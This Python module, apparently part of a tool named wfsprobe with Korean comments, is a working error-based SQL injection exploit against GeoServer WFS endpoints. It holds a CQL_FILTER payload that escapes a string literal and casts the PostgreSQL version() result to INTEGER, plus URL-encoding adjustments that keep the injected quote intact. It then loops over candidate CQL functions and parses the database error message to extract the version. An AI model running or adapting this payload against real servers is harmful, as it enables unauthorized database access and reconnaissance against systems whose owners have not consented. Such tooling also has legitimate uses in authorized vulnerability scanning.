import re
from typing import List, Optional, Pattern, Sequence

from wfsprobe.core.errors import DecodeError, TransportError
from wfsprobe.core.handler.capabilities import decode_capabilities
from wfsprobe.core.handler.cql_functions import enabled_candidates
from wfsprobe.core.handler.request_wfs import WFSRequestHandler
from wfsprobe.core.logging.log import Logger
from wfsprobe.core.models import (
    AttemptOutcome,
    CandidateAttempt,
    CQLCandidate,
    ExtractionResult,
    ProbeState,
)
from wfsprobe.core.util.util import Util

# PostgreSQL JDBC 드라이버가 integer 캐스트 실패 시 내는 메시지
VERSION_ERROR_MARKER = "ERROR: invalid input syntax for integer"

# GeoServer가 붙이는 예외 체인 접두어 길이. 오류 줄의 이 위치부터 version() 값이 시작됨
VERSION_OFFSET = 96

# offset 대신 쓸 수 있는 패턴 (named group 'value')
VERSION_PATTERN = re.compile(
    r'invalid input syntax for (?:type )?integer: "(?P<value>[^"\r\n]*)"'
)

PAYLOAD_TEMPLATE = (
    "{function}({prop},'x'') = true and "
    "1=(SELECT CAST ((SELECT version()) AS INTEGER)) -- ') = true"
)


def build_payload(function: str, prop: str = "name") -> str:
    """문자열 리터럴을 탈출해 version()을 INTEGER로 캐스트하는 CQL 술어"""
    return PAYLOAD_TEMPLATE.format(function=function, prop=prop)


def encode_payload(payload: str) -> str:
    """
    쿼리 값 인코딩 후 '' (%27%27) 를 %27%27%27 로 교정.
    서버가 한 단계 escape를 풀어도 SQL의 '' 토큰이 남아야 함
    """
    return Util.encode_query_value(payload).replace("%27%27", "%27%27%27")


def extract_error_line(text: str, marker: str = VERSION_ERROR_MARKER,
                       pattern: Optional[Pattern] = None) -> Optional[str]:
    """marker(또는 pattern)가 포함된 줄 전체. 없으면 None"""
    if pattern is not None:
        match = pattern.search(text)
        index = match.start() if match else -1
    else:
        index = text.find(marker)
    if index == -1:
        return None
    start = text.rfind("\n", 0, index) + 1
    end = text.find("\n", index)
    if end == -1:
        end = len(text)
    return text[start:end]


def extract_fragment(error_line: str, offset: int = VERSION_OFFSET,
                     pattern: Optional[Pattern] = None) -> str:
    if pattern is not None:
        match = pattern.search(error_line)
        fragment = match.group("value") if match else ""
    else:
        fragment = error_line[offset:]
    return fragment.strip().strip('"').strip()


class InjectionOracle:
    """
    CQL_FILTER error-based SQL injection으로 DB version() 추출

    후보 함수를 순서대로 하나씩 시도하고, 처음으로 marker가 나타난 후보에서 멈춤.
    전송/상태코드/디코딩 실패는 해당 후보만 건너뜀.

    상태: PENDING -> TRYING(candidate)* -> EXTRACTED | EXHAUSTED
    """

    def __init__(self, requester: WFSRequestHandler,
                 candidates: Optional[Sequence[CQLCandidate]] = None,
                 property_name: str = "name",
                 marker: str = VERSION_ERROR_MARKER,
                 offset: int = VERSION_OFFSET,
                 pattern: Optional[Pattern] = None):
        if offset < 0:
            raise ValueError("offset must be >= 0")
        self.requester = requester
        self.candidates = list(candidates) if candidates is not None else enabled_candidates()
        self.property_name = property_name
        self.marker = marker
        self.offset = offset
        self.pattern = pattern
        self.logger = Logger()
        self.state = ProbeState.PENDING
        self.current: Optional[CQLCandidate] = None
        self.attempts: List[CandidateAttempt] = []

    def probe(self, type_name: str) -> Optional[ExtractionResult]:
        if not type_name:
            raise ValueError("type_name must not be empty")

        self.state = ProbeState.PENDING
        self.current = None
        self.attempts = []

        for candidate in self.candidates:
            self.state = ProbeState.TRYING
            self.current = candidate
            result = self._try_candidate(type_name, candidate)
            if result is not None:
                self.state = ProbeState.EXTRACTED
                self.logger.info(
                    f"Database Version ({type_name}, {candidate.name}): {result.fragment}"
                )
                return result

        self.state = ProbeState.EXHAUSTED
        self.logger.info(f"No version leaked for {type_name} "
                         f"({len(self.attempts)} candidates tried)")
        return None

    def _record(self, candidate: CQLCandidate, outcome: AttemptOutcome,
                detail: str = "") -> None:
        self.attempts.append(CandidateAttempt(candidate, outcome, detail))

    def _try_candidate(self, type_name: str,
                       candidate: CQLCandidate) -> Optional[ExtractionResult]:
        payload = build_payload(candidate.name, self.property_name)
        self.logger.debug(f"Trying {candidate.name} on {type_name}: {payload}")

        try:
            response = self.requester.probe(type_name, encode_payload(payload))
        except TransportError as e:
            self.logger.error(f"Probe request failed - {type_name}/{candidate.name}: {e}")
            self._record(candidate, AttemptOutcome.TRANSPORT_ERROR, str(e))
            return None

        if not response.ok:
            self.logger.debug(f"{type_name}/{candidate.name}: status {response.status_code}")
            self._record(candidate, AttemptOutcome.UNEXPECTED_STATUS,
                         f"status code {response.status_code}")
            return None

        try:
            document = decode_capabilities(response.body)
        except DecodeError as e:
            self.logger.debug(f"{type_name}/{candidate.name}: {e}")
            self._record(candidate, AttemptOutcome.DECODE_ERROR, str(e))
            return None

        text = document.service_exception.text if document.service_exception else ""
        error_line = extract_error_line(text, self.marker, self.pattern)
        if error_line is None:
            self._record(candidate, AttemptOutcome.NO_MATCH)
            return None

        fragment = extract_fragment(error_line, self.offset, self.pattern)
        if not fragment:
            # marker는 있지만 offset 위치에 값이 없음: 다음 후보로 계속
            self.logger.debug(f"{type_name}/{candidate.name}: error line shorter than offset "
                              f"{self.offset}: {error_line}")
            self._record(candidate, AttemptOutcome.TRUNCATED,
                         "error line found but nothing at the configured position")
            return None

        self._record(candidate, AttemptOutcome.EXTRACTED, fragment)
        return ExtractionResult(fragment=fragment, candidate=candidate,
                                error_line=error_line)
